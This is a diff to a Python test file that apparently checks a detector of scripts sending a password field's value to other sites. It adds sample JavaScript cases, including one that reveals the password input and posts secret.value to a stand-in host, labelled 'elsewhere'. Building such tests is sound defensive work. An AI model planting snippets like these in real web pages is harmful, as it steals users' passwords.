@@ -137,6 +137,8 @@ FIELDS = "<form method=post action=/buy><input name=u><input type=password id=se
         ("fetch('https://example.okta.com/login', {body: secret.value})", "safe"),
         ("fetch('https://stats.test/hit'); secretly.value = 1", "safe"),
         ("open('https://evil.test/'); secret.value = ''", "safe"),
+        ("(() => {secret.type = 'text'})(); fetch('https://chat.test/', {body: report.value})", "safe"),
+        ("(() => {secret.type = 'text'})(); fetch('https://chat.test/', {body: secret.value})", "elsewhere"),
     ],
 )
 def test_what_scripts_send_to_another_site(send: str, state: str) -> None:
